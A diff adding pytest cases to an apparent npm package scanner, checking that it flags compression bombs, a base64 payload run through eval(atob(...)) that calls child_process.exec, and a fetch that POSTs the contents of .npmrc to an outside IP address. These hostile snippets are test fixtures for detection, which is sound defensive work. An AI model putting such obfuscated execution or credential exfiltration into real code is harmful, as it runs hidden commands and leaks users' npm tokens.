@@ -8,8 +8,9 @@ import zlib
 from pathlib import Path
 
 import pytest
-from tests.support.scanned import looked_at, package
+from tests.support.scanned import looked_at, package, told
 
+from assay.finding import Severity
 from assay.scan.bytes import BYTE_CHECKS
 
 _TIRING = {
@@ -71,3 +72,30 @@ def test_a_compressed_bomb_is_taken_out_to_a_bound(tmp_path: Path) -> None:
 )
 def test_nothing_raises_whatever_the_bytes(raw: bytes, name: str, tmp_path: Path) -> None:
     looked_at(tmp_path, "npm", {name: raw, "b/" + name: raw})
+
+
+def test_what_was_not_taken_out_is_told(tmp_path: Path) -> None:
+    # Each piece unpacks to the bound of one, and all of them to more than the bound of a file.
+    bombs = [
+        base64.b64encode(zlib.compress(bytes([65 + n]) * (4 << 20))).decode() for n in range(9)
+    ]
+    hits = looked_at(tmp_path, "npm", {"a.js": "\n".join(f"inflate('{bomb}')" for bomb in bombs)})
+    assert "unread-encoding" in told(hits, Severity.WARNING)
+
+
+def test_a_payload_behind_many_harmless_ones_is_found(tmp_path: Path) -> None:
+    harmless = [base64.b64encode(f"some text of number {n}".encode()).decode() for n in range(5000)]
+    hidden = base64.b64encode(b"require('child_process').exec('id')").decode()
+    lines = [f"const a{n} = '{one}';" for n, one in enumerate([*harmless, hidden])]
+    hits = looked_at(tmp_path, "npm", {"a.js": "\n".join([*lines, "eval(atob(a5000))"])})
+    assert "hidden-program" in told(hits, Severity.ERROR)
+
+
+def test_harmless_mentions_before_it_hide_no_theft(tmp_path: Path) -> None:
+    early = "// reads .npmrc as npm does\n" * 20 + "const x = 1;\n" * 300
+    theft = (
+        "fetch('http://45.9."
+        + "148.99/', {method: 'POST', body: fs.readFileSync(h + '/.npmrc')})\n"
+    )
+    hits = looked_at(tmp_path, "npm", {"a.js": early + theft})
+    assert "steals-credentials" in told(hits, Severity.ERROR)
